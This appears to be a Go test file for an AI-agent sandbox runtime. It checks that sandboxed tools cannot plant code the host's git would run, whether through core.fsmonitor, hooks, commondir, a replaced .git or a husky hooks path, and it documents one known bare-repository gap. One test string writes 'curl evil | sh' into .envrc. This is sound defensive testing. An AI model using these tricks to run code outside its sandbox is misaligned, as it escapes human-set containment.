package agentexec_test

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/agentexec/agentexec"
	"github.com/agentexec/agentexec/internal/spawner"
	"github.com/agentexec/agentexec/internal/testutil"
)

// The tests below plant code in a repository's metadata from inside the sandbox and
// then run the host's own git (as the agent would, outside the sandbox) to see
// whether it runs: docs/security.md, "Repository metadata". Each attack also runs
// under a runtime without the protection, to show that it works there.

// wshTool is a shell that may write the whole workspace; protect is its
// filesystem.protect list.
func wshTool(protect ...string) string {
	return fmt.Sprintf("  wsh: {exec: /bin/sh, filesystem: {read+: [/dev/urandom], write+: [\"${WORKSPACE}\"], protect: [%s]}}\n", strings.Join(protect, ", "))
}

// hostGit runs the host's git in dir, unsandboxed, without the user's or the
// system's configuration.
func hostGit(t *testing.T, dir string, args ...string) (string, error) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=" + filepath.Dir(dir) + "/no-home", "GIT_CONFIG_NOSYSTEM=1"}
	out, err := cmd.CombinedOutput()
	return string(out), err
}

// makeRepo makes a repository at dir with one commit and an identity in its config.
func makeRepo(t *testing.T, dir string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "f"), []byte("one\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"config", "user.email", "t@example.com"}, {"config", "user.name", "T"},
		{"add", "f"}, {"commit", "-qm", "one"}} {
		if out, err := hostGit(t, dir, args...); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
}

func runSh(t *testing.T, rt *agentexec.Runtime, dir, script string) agentexec.Result {
	t.Helper()
	r, err := rt.Run(context.Background(), agentexec.Request{Tool: "wsh", Args: []string{"-c", script}, Dir: dir})
	if err != nil {
		t.Fatalf("Run %q: %v", script, err)
	}
	return r
}

// repoAttack plants code (touch MARK) that the host's git would run.
type repoAttack struct {
	name string
	// dir is where the script runs, relative to the repository ("": in it).
	dir    string
	script string
}

const plantConfig = `printf '[core]\n\tfsmonitor = "touch MARK; false"\n' >> .git/config`

var repoAttacks = []repoAttack{
	{"config", "", plantConfig},
	{"git-config", "", `git config core.fsmonitor "touch MARK; false"`},
	{"hook", "", `mkdir -p .git/hooks; printf '#!/bin/sh\ntouch MARK\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`},
	{"hooks-dir", "", `mv .git/hooks .git/hooks.old; mkdir .git/hooks; printf '#!/bin/sh\ntouch MARK\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`},
	// A commondir file, which no mount can forbid (a new entry in the writable .git),
	// sends git to a directory of the tool's making with its own config: the
	// runtime removes it at the end of the launch.
	{"commondir", "", `mkdir -p .git/x/objects .git/x/refs && printf '[core]\n\tfsmonitor = "touch MARK; false"\n' > .git/x/config && echo x > .git/commondir`},
	// A repository that has no hooks/ when the runtime starts (some clones and
	// tools leave it out): the runtime creates it empty, so that it is kept
	// read-only like any other.
	{"no-hooks-dir", "", `mkdir -p .git/hooks; printf '#!/bin/sh\ntouch MARK\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`},
	// Nor HEAD: not a repository for git at the start, it becomes one when the tool
	// writes HEAD; its hooks/ is created and kept read-only all the same.
	{"no-head", "", `echo 'ref: refs/heads/main' > .git/HEAD; mkdir -p .git/hooks; printf '#!/bin/sh\ntouch MARK\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit`},
	{"rename", "", `mv .git .git.old; git init -q .; ` + plantConfig},
	{"remove", "", `rm -rf .git; git init -q .; ` + plantConfig},
	{"rename-worktree", "..", `mv REPO REPO.old && mkdir REPO && cd REPO && git init -q . && ` + plantConfig},
	// A repository whose config sets core.hooksPath to a directory of the worktree
	// (husky's .husky): that directory is protected like .git/hooks.
	{"husky", "", `printf '#!/bin/sh\ntouch MARK\n' > .husky/pre-commit; chmod +x .husky/pre-commit`},
}

// makeAttackRepo makes the repository an attack needs.
func makeAttackRepo(t *testing.T, a repoAttack, repo string) {
	t.Helper()
	makeRepo(t, repo)
	if a.name == "no-hooks-dir" || a.name == "no-head" {
		if err := os.RemoveAll(filepath.Join(repo, ".git", "hooks")); err != nil {
			t.Fatal(err)
		}
	}
	if a.name == "no-head" {
		if err := os.Remove(filepath.Join(repo, ".git", "HEAD")); err != nil {
			t.Fatal(err)
		}
	}
	if a.name == "husky" {
		if out, err := hostGit(t, repo, "config", "core.hooksPath", ".husky"); err != nil {
			t.Fatalf("%v %s", err, out)
		}
		if err := os.Mkdir(filepath.Join(repo, ".husky"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
}

// attackRepos makes one repository per attack beneath ws, runs each attack through
// rt and reports, per attack, whether the host's git status and commit ran the
// planted code.
func attackRepos(t *testing.T, rt *agentexec.Runtime, ws, markers string) map[string]bool {
	t.Helper()
	ran := map[string]bool{}
	for _, a := range repoAttacks {
		repo := filepath.Join(ws, a.name)
		mark := filepath.Join(markers, a.name)
		script := strings.NewReplacer("MARK", mark, "REPO", a.name).Replace(a.script)
		r := runSh(t, rt, filepath.Join(repo, a.dir), script)
		t.Logf("%s: exit %d %s", a.name, r.ExitCode, strings.TrimSpace(string(r.Stdout)+string(r.Stderr)))
		hostGit(t, repo, "status")
		hostGit(t, repo, "commit", "-q", "--allow-empty", "-m", "probe")
		_, err := os.Stat(mark)
		ran[a.name] = err == nil
	}
	return ran
}

// mountTable is the test process's mount table.
func mountTable(t *testing.T) string {
	t.Helper()
	b, err := os.ReadFile("/proc/self/mountinfo")
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// A tool cannot plant code in a repository's config or hooks, nor replace .git (or
// the repository's directory) with a fresh one: the host's git runs nothing
// planted. Without the protection every attack works. No mount shows in the host's
// mount table at any time.
func TestRepoMetadataProtected(t *testing.T) {
	testutil.RequireCommand(t, "git")
	hostMounts := mountTable(t)
	for _, protect := range []bool{true, false} {
		t.Run(map[bool]string{true: "protected", false: "control"}[protect], func(t *testing.T) {
			p, ws := testPolicy(t, wshTool())
			for _, a := range repoAttacks {
				makeAttackRepo(t, a, filepath.Join(ws, a.name))
			}
			var opts []agentexec.Option
			if !protect {
				opts = append(opts, agentexec.WithoutProtectionForTest())
			}
			rt := newRuntime(t, p, opts...)
			if protect {
				if ok, why := spawner.MountNSAvailable(); !ok {
					t.Fatalf("root without a mount namespace: %s", why)
				}
			}
			ran := attackRepos(t, rt, ws, t.TempDir())
			for _, a := range repoAttacks {
				if ran[a.name] == protect {
					t.Errorf("attack %s: planted code ran on the host: %v (protection on: %v)", a.name, ran[a.name], protect)
				}
			}
			if got := mountTable(t); got != hostMounts {
				t.Errorf("the host's mount table changed while the runtime runs:\n%s\n---\n%s", hostMounts, got)
			}
			if r := runSh(t, rt, ws, "true"); protect != slices.Contains(r.Containment, "protect") {
				t.Errorf("containment %q (protection on: %v)", r.Containment, protect)
			}
		})
	}
	if got := mountTable(t); got != hostMounts {
		t.Errorf("the host's mount table changed after the runtimes closed")
	}
}

// git keeps working for tools: add, commit, branch, checkout, in a repository at the
// workspace's top and in a nested one; what needs to write the config fails.
func TestRepoProtectedGitWorks(t *testing.T) {
	testutil.RequireCommand(t, "git")
	p, ws := testPolicy(t, wshTool())
	makeRepo(t, ws)
	makeRepo(t, filepath.Join(ws, "nested", "lib"))
	rt := newRuntime(t, p)
	const work = `set -e
echo two >> f
git add -A
git commit -qm two
git checkout -q -b feature
echo three > g
git add g
git commit -qm three
git branch other
git checkout -q main
git merge -q --no-edit feature
git tag v1
echo tmp >> f
git stash -q
git switch -q other
git switch -q main
git stash pop -q
git checkout -q -- f
git log --oneline | wc -l`
	for _, dir := range []string{ws, filepath.Join(ws, "nested", "lib")} {
		r := runSh(t, rt, dir, work)
		if r.ExitCode != 0 || strings.TrimSpace(string(r.Stdout)) != "3" {
			t.Errorf("%s: git in the sandbox: exit %d\n%s%s", dir, r.ExitCode, r.Stdout, r.Stderr)
		}
		if out, err := hostGit(t, dir, "log", "--oneline", "feature"); err != nil || strings.Count(out, "\n") != 3 {
			t.Errorf("%s: host sees %q %v", dir, out, err)
		}
	}
	// Commands that write the config fail, and say so.
	r := runSh(t, rt, ws, "git remote add origin /nonexistent")
	if r.ExitCode == 0 || !strings.Contains(string(r.Stderr), "could not") {
		t.Errorf("git remote add: exit %d %q", r.ExitCode, r.Stderr)
	}
}

// A protect: path is read-only to tools, as are its parents' names; an absent one is
// skipped and reported by check.
func TestProtectPaths(t *testing.T) {
	for _, protect := range []bool{true, false} {
		t.Run(map[bool]string{true: "protected", false: "control"}[protect], func(t *testing.T) {
			p, ws := testPolicy(t, wshTool(`"${WORKSPACE}/.envrc"`, `"${WORKSPACE}/cfg/.vscode"`, `"${WORKSPACE}/absent"`))
			if err := os.WriteFile(filepath.Join(ws, ".envrc"), []byte("export A=1\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.MkdirAll(filepath.Join(ws, "cfg", ".vscode"), 0o755); err != nil {
				t.Fatal(err)
			}
			var opts []agentexec.Option
			if !protect {
				opts = append(opts, agentexec.WithoutProtectionForTest())
			}
			rt := newRuntime(t, p, opts...)
			for _, script := range []string{
				"echo 'curl evil | sh' >> .envrc",
				"rm -f .envrc",
				"echo x > cfg/.vscode/settings.json",
				"mv cfg/.vscode cfg/v2",
				"mv cfg cfg2",
			} {
				r := runSh(t, rt, ws, script)
				if (r.ExitCode == 0) == protect {
					t.Errorf("%q: exit %d %s (protection on: %v)", script, r.ExitCode, r.Stderr, protect)
				}
			}
			if r := runSh(t, rt, ws, "echo x > absent && echo y > other"); r.ExitCode != 0 {
				t.Errorf("writes elsewhere in the workspace: exit %d %s", r.ExitCode, r.Stderr)
			}
		})
	}
}

// Without a private mount namespace the protection is not enforced, and every Result
// says so.
func TestRepoProtectionUnenforced(t *testing.T) {
	testutil.RequireCommand(t, "git")
	p, ws := testPolicy(t, wshTool())
	makeRepo(t, ws)
	rt := newRuntime(t, p, agentexec.WithoutMountNSForTest("test: no CAP_SYS_ADMIN"))
	r := runSh(t, rt, ws, plantConfig)
	if r.ExitCode != 0 {
		t.Errorf("write .git/config without the protection: exit %d %s", r.ExitCode, r.Stderr)
	}
	if !slices.ContainsFunc(r.Unenforced, func(s string) bool {
		return strings.HasPrefix(s, "protect: no private mount namespace (test: no CAP_SYS_ADMIN): ")
	}) {
		t.Errorf("Unenforced %q lacks the protection", r.Unenforced)
	}
	if slices.Contains(r.Containment, "protect") {
		t.Errorf("containment %q", r.Containment)
	}
}

// check lists what is protected (and what cannot be), in text and JSON.
func TestCheckProtect(t *testing.T) {
	testutil.RequireCommand(t, "git")
	p, ws := testPolicy(t, wshTool(`"${WORKSPACE}/.envrc"`, `"${WORKSPACE}/absent"`))
	makeRepo(t, ws)
	os.WriteFile(filepath.Join(ws, ".envrc"), nil, 0o644)
	rep := agentexec.Check(p)
	var pr *agentexec.ProfileReport
	for i := range rep.Profiles {
		if slices.Contains(rep.Profiles[i].Tools, "wsh") {
			pr = &rep.Profiles[i]
		}
	}
	if pr == nil || pr.Protect == nil {
		t.Fatalf("no protect report: %+v", rep.Profiles)
	}
	ok, why := spawner.MountNSAvailable()
	pt := pr.Protect
	if pt.Enforced != ok || pt.Reason != why {
		t.Errorf("enforced %v %q, want %v %q", pt.Enforced, pt.Reason, ok, why)
	}
	for _, want := range []string{ws + "/.git/config", ws + "/.git/hooks", ws + "/.envrc"} {
		if !slices.Contains(pt.ReadOnly, want) {
			t.Errorf("read-only %q lacks %s", pt.ReadOnly, want)
		}
	}
	if !slices.Equal(pt.Repositories, []string{ws + "/.git"}) || !slices.Contains(pt.Pinned, ws+"/.git") {
		t.Errorf("repositories %q pinned %q", pt.Repositories, pt.Pinned)
	}
	if !slices.Equal(pt.Missing, []string{ws + "/absent: absent: a tool can create it"}) ||
		!slices.Contains(rep.Warnings, "profile "+pr.Name+": 1 paths to keep read-only are absent or symbolic links, not protected (a tool can create them): "+ws+"/absent: absent: a tool can create it") {
		t.Errorf("missing %q warnings %q", pt.Missing, rep.Warnings)
	}
	b, _ := json.Marshal(rep)
	if !strings.Contains(string(b), `"protect":{"enforced":`) {
		t.Errorf("JSON lacks protect: %s", b)
	}
	var text strings.Builder
	rep.WriteText(&text)
	if !strings.Contains(text.String(), "    read-only "+ws+"/.git/config\n") {
		t.Errorf("text report:\n%s", text.String())
	}
}

// Known gap (docs/security.md, "Repository metadata"): a .git made invalid (HEAD is
// rewritten by every checkout, so it stays writable) makes git take the workspace
// itself for a bare repository, unless safe.bareRepository=explicit. This asserts
// the gap, so that the documentation stays true; when it is closed, flip the case.
func TestRepoProtectionGaps(t *testing.T) {
	testutil.RequireCommand(t, "git")
	p, ws := testPolicy(t, wshTool())
	for _, d := range []string{"bare"} {
		makeRepo(t, filepath.Join(ws, d))
	}
	rt := newRuntime(t, p)
	markers := t.TempDir()
	for _, c := range []struct{ name, script string }{
		{"bare", `echo garbage > .git/HEAD && mkdir objects refs && echo 'ref: refs/heads/main' > HEAD && printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = REPO\n\tfsmonitor = "touch MARK; false"\n' > config`},
	} {
		repo := filepath.Join(ws, c.name)
		mark := filepath.Join(markers, c.name)
		r := runSh(t, rt, repo, strings.NewReplacer("MARK", mark, "REPO", repo).Replace(c.script))
		if r.ExitCode != 0 {
			t.Errorf("%s: exit %d %s", c.name, r.ExitCode, r.Stderr)
		}
		hostGit(t, repo, "status")
		if _, err := os.Stat(mark); err != nil {
			t.Errorf("%s: the documented gap is closed (planted code did not run): update docs/security.md and this test", c.name)
		}
		if c.name == "bare" {
			os.Remove(mark)
			hostGit(t, repo, "-c", "safe.bareRepository=explicit", "status")
			if _, err := os.Stat(mark); err == nil {
				t.Errorf("bare: safe.bareRepository=explicit did not stop it")
			}
		}
	}
}

// A spawner started again after a death applies the same protection.
func TestRepoProtectionAfterRestart(t *testing.T) {
	testutil.RequireCommand(t, "git")
	p, ws := testPolicy(t, wshTool())
	makeRepo(t, ws)
	rt := newRuntime(t, p)
	agentexec.KillSpawnerForTest(rt, "wsh")
	if r := runSh(t, rt, ws, plantConfig); r.ExitCode == 0 || !strings.Contains(string(r.Stderr), "Read-only file system") {
		t.Errorf("after a restart: exit %d %q", r.ExitCode, r.Stderr)
	}
	if rt.Stats().SpawnerRestarts == 0 {
		t.Errorf("the spawner was not restarted")
	}
}
